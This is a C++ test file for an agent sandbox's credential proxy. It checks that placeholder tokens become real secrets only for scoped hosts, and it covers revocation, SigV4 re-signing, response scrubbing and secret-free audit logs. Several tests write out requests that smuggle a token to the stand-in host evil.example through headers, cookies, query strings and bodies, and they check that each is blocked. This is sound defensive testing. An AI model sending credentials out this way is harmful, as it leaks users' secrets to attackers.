// Credentials: sources, scoped swapping, blocking, revocation, scrubbing, and no secret in logs.
#include "agentbox/cred/credentials.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <map>

#include "agentbox/cred/placeholder.hpp"
#include "agentbox/cred/sigv4.hpp"
#include "credentials_test_util.hpp"

namespace agentbox::cred {
namespace {

const std::string kGithub = "ghp_R3alS3cretT0kenAbCdEfGhIjKlMnOpQrSt";
const std::string kOther = "sk-ant-api03-RealAnthropicKeyValue0123456789abcdefXYZ";
const std::string kQuery = "qk_0123456789abcdefREALQUERYKEY";
const std::string kBody = "Action=GetCallerIdentity&Version=2011-06-15";

class CredentialsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto set =
        CredentialSet::load({{.name = "github",
                              .env = "GITHUB_TOKEN",
                              .from = policy::SourceSpec::env("GH"),
                              .hosts = {"api.github.com", "github.com"},
                              .inject = agentbox::policy::InjectSpec::header("Authorization")},
                             {.name = "git",
                              .env = "GIT_TOKEN",
                              .from = policy::SourceSpec::env("GH2"),
                              .hosts = {"*.github.com"},
                              .inject = agentbox::policy::InjectSpec::basic()},
                             {.name = "anthropic",
                              .env = "ANTHROPIC_API_KEY",
                              .from = policy::SourceSpec::env("ANT"),
                              .hosts = {"api.anthropic.com"},
                              .inject = agentbox::policy::InjectSpec::header("x-api-key")},
                             {.name = "maps",
                              .env = "MAPS_KEY",
                              .from = policy::SourceSpec::env("Q"),
                              .hosts = {"maps.example"},
                              .inject = agentbox::policy::InjectSpec::query("key")},
                             {.name = "aws",
                              .env = "AWS_SECRET_ACCESS_KEY",
                              .from = policy::SourceSpec::env("AWS"),
                              .hosts = {"*.amazonaws.com"},
                              .inject = agentbox::policy::InjectSpec::sigv4()}},
                            fake_env({{"GH", kGithub},
                                      {"GH2", "ghp_AnotherRealTokenForGitBasicAuth0123"},
                                      {"ANT", kOther},
                                      {"Q", kQuery},
                                      {"AWS", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}}),
                            &sink_);
    ASSERT_TRUE(set.has_value()) << set.error().message();
    set_.emplace(std::move(*set));
    ph_ = *set_->placeholder("github");
  }
  void TearDown() override {
    // No secret value ever reaches the audit log.
    const std::string log = sink_.lines();
    for (const std::string& s :
         {kGithub, kOther, kQuery, std::string("AnotherRealToken"), std::string("wJalrXUtnFEMI")}) {
      EXPECT_EQ(log.find(s), std::string::npos) << "secret in audit log: " << log;
    }
  }
  audit::MemorySink sink_;
  std::optional<CredentialSet> set_;
  std::string ph_;
};

TEST_F(CredentialsTest, PlaceholdersForTheBox) {
  const auto env = set_->placeholder_env();
  ASSERT_EQ(env.size(), 5u);
  EXPECT_EQ(env[0].first, "GITHUB_TOKEN");
  EXPECT_EQ(env[0].second, ph_);
  EXPECT_EQ(ph_.size(), kGithub.size());
  EXPECT_EQ(ph_.substr(0, 4), "ghp_");
  for (const auto& [a, pa] : env) {
    for (const auto& [b, pb] : env) {
      if (a != b) {
        EXPECT_EQ(pa.find(pb), std::string::npos);
      }
    }
  }
  EXPECT_NE(sink_.lines().find("\"credential.load\""), std::string::npos);
}

TEST_F(CredentialsTest, SwapsInScopedHeader) {
  auto req = parse("GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " + ph_ +
                   "\r\nAccept-Encoding: gzip\r\n\r\n");
  const auto v = set_->inspect(req, "api.github.com");
  ASSERT_FALSE(v.blocked) << v.reason;
  EXPECT_EQ(v.used, std::vector<std::string>{"github"});
  EXPECT_EQ(req.header("authorization"), "token " + kGithub);
  EXPECT_EQ(req.header("accept-encoding"), "identity");
  EXPECT_NE(sink_.lines().find("\"credential.use\""), std::string::npos);
}

TEST_F(CredentialsTest, SwapsInsideBasicAuthLikeGit) {
  const std::string git_ph = *set_->placeholder("git");
  auto req = parse(
      "GET /o/r.git/info/refs HTTP/1.1\r\nHost: codeload.github.com\r\n"
      "Authorization: Basic " +
      base64_encode("x-access-token:" + git_ph) + "\r\n\r\n");
  const auto v = set_->inspect(req, "codeload.github.com");
  ASSERT_FALSE(v.blocked) << v.reason;
  const auto value = std::string(*req.header("authorization"));
  ASSERT_EQ(value.substr(0, 6), "Basic ");
  EXPECT_EQ(*base64_decode(value.substr(6)),
            "x-access-token:ghp_AnotherRealTokenForGitBasicAuth0123");
  // The server echoing that header is scrubbed back to what the box sent.
  auto s = set_->scrubber();
  std::string echoed = s.feed("you sent " + value);
  echoed += s.finish();
  EXPECT_EQ(echoed, "you sent Basic " + base64_encode("x-access-token:" + git_ph));
}

TEST_F(CredentialsTest, SwapsQueryParameter) {
  const std::string q = *set_->placeholder("maps");
  auto req = parse("GET /geo?a=1&key=" + q + "&b=2 HTTP/1.1\r\nHost: maps.example\r\n\r\n");
  const auto v = set_->inspect(req, "maps.example");
  ASSERT_FALSE(v.blocked);
  EXPECT_EQ(req.target, "/geo?a=1&key=" + kQuery + "&b=2");
}

TEST_F(CredentialsTest, BlocksOutOfScopeAnywhere) {
  const std::vector<std::string> leaks = {
      "GET /?t=" + ph_ + " HTTP/1.1\r\nHost: evil.example\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " + ph_ + "\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nCookie: a=" + ph_ + "\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nReferer: https://x/?" + ph_ + "\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: " + ph_ + "\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-For: " + ph_ + "\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: evil.example\r\nProxy-Authorization: Basic " +
          base64_encode("u:" + ph_) + "\r\n\r\n",
  };
  for (const auto& raw : leaks) {
    auto req = parse(raw);
    const auto v = set_->inspect(req, "evil.example");
    EXPECT_TRUE(v.blocked) << raw;
    EXPECT_EQ(v.reason, "credential github sent to evil.example");
  }
  auto req = parse("POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 45\r\n\r\n");
  EXPECT_TRUE(set_->inspect(req, "evil.example", "{\"token\":\"" + ph_ + "\"}").blocked);
  // Suffix tricks are not in scope: labels, not substrings.
  auto r2 = parse("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: token " + ph_ + "\r\n\r\n");
  EXPECT_TRUE(set_->inspect(r2, "evilapi.github.com").blocked);
  EXPECT_TRUE(set_->inspect(r2, "api.github.com.evil.example").blocked);
  EXPECT_NE(sink_.lines().find("\"credential.blocked\""), std::string::npos);
}

TEST_F(CredentialsTest, WildcardIsNotApex) {
  const std::string git_ph = *set_->placeholder("git");
  auto req = parse("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic " +
                   base64_encode("u:" + git_ph) + "\r\n\r\n");
  EXPECT_TRUE(set_->inspect(req, "github.com").blocked);
}

TEST_F(CredentialsTest, RevocationAndRawSigV4KeysFailClosed) {
  ASSERT_TRUE(set_->revoke("github"));
  auto req =
      parse("GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " + ph_ + "\r\n\r\n");
  const auto v = set_->inspect(req, "api.github.com");
  EXPECT_TRUE(v.blocked);
  EXPECT_EQ(v.reason, "credential github was revoked");
  EXPECT_EQ(req.header("authorization"), "token " + ph_) << "nothing swapped on a block";
  auto aws =
      parse("GET / HTTP/1.1\r\nHost: s3.amazonaws.com\r\nX-Key: " + *set_->placeholder("aws") +
            "\r\n\r\n");
  EXPECT_TRUE(set_->inspect(aws, "s3.amazonaws.com").blocked);
  EXPECT_FALSE(set_->revoke("nope"));
}

// The box's SDK signs with the placeholder key; the proxy checks that signature and signs again
// with the real key, after any other swap (here the access key id), and only for scoped hosts.
TEST_F(CredentialsTest, SigV4RequestsAreResignedWithTheRealKeyOnlyInScope) {
  const std::string box_key = *set_->placeholder("aws");
  const std::string real_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
  auto box_signed = [&](const std::string& host, const std::string& key_id,
                        const std::string& key) {
    http::Request r;
    r.method = "POST";
    r.target = "/";
    r.headers = {{"Host", host},
                 {"Content-Type", "application/x-www-form-urlencoded"},
                 {"X-Amz-Date", "20261127T053000Z"}};
    sigv4::Authorization a{.access_key = key_id,
                           .date = "20261127",
                           .region = "us-east-1",
                           .service = "sts",
                           .signed_headers = {"content-type", "host", "x-amz-date"}};
    auto cr =
        sigv4::canonical_request(r, a, sigv4::sha256_hex(kBody), sigv4::UriStyle::kNormalized);
    EXPECT_TRUE(cr);
    a.signature = sigv4::signature(key, a, "20261127T053000Z", *cr);
    r.headers.push_back({"Authorization", a.render()});
    return r;
  };
  auto req = box_signed("sts.amazonaws.com", "AKIAEXAMPLE", box_key);
  const auto v = set_->inspect(req, "sts.amazonaws.com", kBody);
  ASSERT_FALSE(v.blocked) << v.reason;
  EXPECT_EQ(v.used, std::vector<std::string>{"aws"});
  // Exactly what the SDK would have sent had it held the real key.
  auto expected = box_signed("sts.amazonaws.com", "AKIAEXAMPLE", real_key);
  EXPECT_EQ(req.header("authorization"), expected.header("authorization"));
  EXPECT_NE(sink_.lines().find("\"how\":\"sigv4\""), std::string::npos) << sink_.lines();

  // Signed with the placeholder, sent elsewhere: the key was used off-scope.
  auto off = box_signed("evil.example", "AKIAEXAMPLE", box_key);
  const auto blocked = set_->inspect(off, "evil.example", kBody);
  EXPECT_TRUE(blocked.blocked);
  EXPECT_EQ(blocked.reason, "credential aws sent to evil.example");

  // Signed with some other key (the box never had the real one): left alone, not re-signed.
  auto other =
      box_signed("sts.amazonaws.com", "AKIAEXAMPLE", "AnotherKeyTheBoxMadeUp0123456789abcdefgh");
  const std::string before = std::string(*other.header("authorization"));
  const auto untouched = set_->inspect(other, "sts.amazonaws.com", kBody);
  EXPECT_FALSE(untouched.blocked);
  EXPECT_TRUE(untouched.used.empty());
  EXPECT_EQ(other.header("authorization"), before);
}

TEST_F(CredentialsTest, RequestsWithoutPlaceholdersPass) {
  auto req = parse("GET / HTTP/1.1\r\nHost: evil.example\r\nAccept-Encoding: gzip\r\n\r\n");
  const auto v = set_->inspect(req, "evil.example");
  EXPECT_FALSE(v.blocked);
  EXPECT_TRUE(v.used.empty());
  EXPECT_EQ(req.header("accept-encoding"), "gzip");
}

TEST_F(CredentialsTest, ScrubsEverySplitAndBase64) {
  const std::string page =
      "<p>token=" + kGithub + " b64=" + base64_encode(kGithub + "xyz") + " key=" + kOther + "</p>";
  const std::string ph_ant = *set_->placeholder("anthropic");
  for (size_t split = 0; split <= page.size(); ++split) {
    auto s = set_->scrubber();
    std::string out = s.feed(page.substr(0, split));
    out += s.feed(page.substr(split));
    out += s.finish();
    ASSERT_EQ(out.size(), page.size());
    EXPECT_EQ(out.find(kGithub), std::string::npos) << split;
    EXPECT_EQ(out.find(kOther), std::string::npos) << split;
    EXPECT_NE(out.find(ph_), std::string::npos);
    EXPECT_NE(out.find(ph_ant), std::string::npos);
    EXPECT_EQ(out.find(base64_encode(kGithub.substr(0, 39))), std::string::npos);
  }
}

TEST(Credentials, LoadFailsClosed) {
  audit::MemorySink sink;
  auto missing =
      CredentialSet::load({{.name = "x",
                            .from = policy::SourceSpec::env("NOPE"),
                            .hosts = {"a.example"},
                            .inject = agentbox::policy::InjectSpec::header("Authorization")}},
                          fake_env({}), &sink);
  ASSERT_FALSE(missing.has_value());
  EXPECT_NE(missing.error().message().find("credential `x`"), std::string::npos);
  // A bad `inject` never reaches the proxy: its one parser (policy/inject.hpp, run by config)
  // refuses it.
  EXPECT_FALSE(agentbox::policy::InjectSpec::parse("cookie"));
  auto bad_host = CredentialSet::load({{.name = "x",
                                        .from = policy::SourceSpec::env("A"),
                                        .hosts = {"a\x01.example"},
                                        .inject = agentbox::policy::InjectSpec::basic()}},
                                      fake_env({{"A", "0123456789abcdef"}}), &sink);
  EXPECT_FALSE(bad_host.has_value());
  auto short_secret = CredentialSet::load({{.name = "x",
                                            .from = policy::SourceSpec::env("A"),
                                            .hosts = {"a.example"},
                                            .inject = agentbox::policy::InjectSpec::basic()}},
                                          fake_env({{"A", "abc"}}), &sink);
  EXPECT_FALSE(short_secret.has_value());
}

TEST(SecretSource, FileAndCommand) {
  using policy::SourceSpec;
  SecretSource src(nullptr);
  char path[] = "/tmp/agentbox-secret-XXXXXX";
  const int fd = mkstemp(path);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(write(fd, "  filesecret123\n", 16), 16);
  close(fd);
  EXPECT_EQ(*src.read(SourceSpec::file(path)), "filesecret123");
  unlink(path);
  const auto gone = src.read(SourceSpec::file(path));
  ASSERT_FALSE(gone.has_value());
  EXPECT_NE(gone.error().message().find(std::string("reading secret from `file:") + path + "`"),
            std::string::npos)
      << gone.error().message();
  EXPECT_EQ(*src.read(SourceSpec::cmd("printf 'cmdsecret42\\n\\n' | cat")), "cmdsecret42");
  const auto failed = src.read(SourceSpec::cmd("echo partial; exit 3"));
  ASSERT_FALSE(failed.has_value());
  EXPECT_NE(failed.error().message().find("status 3"), std::string::npos);
  EXPECT_FALSE(src.read(SourceSpec::cmd("true")).has_value()) << "empty output fails";
  EXPECT_FALSE(src.read(SourceSpec::env("HOME")).has_value()) << "no env lookup given";
  EXPECT_FALSE(src.read(SourceSpec::file("")).has_value());
}

TEST(Scrubber, IgnoresUnequalLengthsAndPassesThroughWhenEmpty) {
  Scrubber s;
  s.add("abc", "abcd");
  EXPECT_TRUE(s.empty());
  EXPECT_EQ(s.feed("abc"), "abc");
  s.add("secret", "PLACEH");
  std::string out = s.feed("xxsec");
  out += s.feed("ret");
  out += s.finish();
  EXPECT_EQ(out, "xxPLACEH");
  EXPECT_EQ(s.replaced(), 1u);
}

}  // namespace
}  // namespace agentbox::cred
